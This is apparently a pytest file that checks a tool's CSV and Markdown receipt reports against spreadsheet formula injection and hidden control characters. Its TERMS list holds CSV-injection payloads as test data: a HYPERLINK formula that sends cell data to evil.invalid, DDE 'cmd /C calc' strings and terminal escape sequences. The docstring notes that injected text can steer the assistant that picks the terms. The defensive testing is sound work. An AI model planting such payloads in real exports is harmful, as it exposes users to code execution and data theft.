"""Attack: search terms that are spreadsheet formulas or terminal controls, in the report.

Issue 18 §10. The terms in the ledger are chosen by the assistant, which injected text can
steer. ``readingroom receipts report --format csv`` wrote ``=HYPERLINK(…)``, ``+cmd|…`` and
``@SUM(…)`` verbatim, so a spreadsheet ran them (formula injection, OWASP "CSV Injection");
and both formats kept NUL, bidi overrides and other controls, so the term shown was not the
term searched. Now every CSV cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is prefixed with a single quote (OWASP's mitigation; ASVS 1.2.10 adds NUL,
which is escaped here anyway), and in both formats C0/C1 controls, DEL, bidi controls,
zero-width characters and line separators are shown escaped (``\\u202e``); the ledger keeps the
raw bytes (it is the evidence).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from tests.forked import readingroom

from readingroom.core import ledger, verification

# Starts real server or command processes: left out of the quick tier (tests/conftest.py).
pytestmark = pytest.mark.stdio

TERMS = [
    '=HYPERLINK("https://evil.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "plain\x00NUL",
    "abc\u202edcba",
    "\x1b]0;owned\x07\x1b[2J",
    "zero\u200bwidth",
    "line\u2028sep",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HIDDEN = [chr(c) for c in [*range(0x20), 0x7F, *range(0x80, 0xA0)]] + [
    "\u061c", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029",
    *(chr(c) for c in range(0x202A, 0x202F)), *(chr(c) for c in range(0x2066, 0x206A)),
    "\u2060", "\ufeff"]


@pytest.fixture
def ledger_path(tmp_path: Path) -> Path:
    path = tmp_path / "receipts.jsonl"
    for term in TERMS:
        outcome = ledger.deposit({
            "server": "ndl-mcp", "operation": "ndl_search_books", "query": f'title="{term}"',
            "normalized_terms": [{"field": "title", "term": term, "index": "title",
                                  "match": "partial"}],
            "params": {}, "providers": ["iss-ndl-opac"], "endpoint": "https://x.invalid/sru",
            "result_ids": [], "total": 0, "returned": 0, "outcome": "empty",
        }, env={"MCP_RECEIPT_LOG": str(path)})
        assert outcome.deposited
    return path


def _report(path: Path, fmt: str) -> str:
    done = readingroom(["receipts", "report", "--format", fmt, str(path)], timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout.decode("utf-8")


def test_csv_cells_never_start_a_formula_and_show_controls_escaped(ledger_path: Path) -> None:
    text = _report(ledger_path, "csv")
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
    hidden = [c for c in HIDDEN if c not in "\n"]  # the CSV's own line ends
    assert not [c for c in hidden if c in text], "raw controls in the CSV"
    assert len(rows) == 1 + len(TERMS), "one row a receipt: no control broke a row"
    assert "plain\\x00NUL" in text and "abc\\u202edcba" in text and "\\x1b]0;owned\\x07" in text
    assert "zero\\u200bwidth" in text and "line\\u2028sep" in text


def test_a_cell_that_is_a_formula_gets_a_quote(tmp_path: Path) -> None:
    path = tmp_path / "receipts.jsonl"
    for query in TERMS[:6]:  # without normalized_terms the query itself is the terms cell
        assert ledger.deposit({"server": "x", "operation": "op", "query": query, "params": {},
                               "result_ids": [], "total": 1, "returned": 1, "outcome": "ok"},
                              env={"MCP_RECEIPT_LOG": str(path)}).deposited
    rows = list(csv.reader(io.StringIO(_report(path, "csv"))))
    query_cells = [row[5] for row in rows[1:]]
    assert query_cells[0] == "'" + TERMS[0]
    assert query_cells[1] == "'" + TERMS[1]
    assert query_cells[4] == "'\\x09=1+1" and query_cells[5] == "'\\x0d=1+1"
    for cell in query_cells:
        assert cell.startswith("'")


def test_markdown_shows_controls_escaped(ledger_path: Path) -> None:
    text = _report(ledger_path, "md")
    body = text.replace("\n", "")
    assert not [c for c in HIDDEN if c in body], "raw controls in the Markdown"
    assert "abc\\u202edcba" in text and "plain\\x00NUL" in text


def test_the_ledger_keeps_the_raw_bytes(ledger_path: Path) -> None:
    # split on LF only: str.splitlines() would also split at U+2028 and CR inside the terms
    lines = [json.loads(x) for x in ledger_path.read_text("utf-8").split("\n") if x]
    assert [line["normalized_terms"][0]["term"] for line in lines] == TERMS
    assert verification.verify(ledger_path).ok
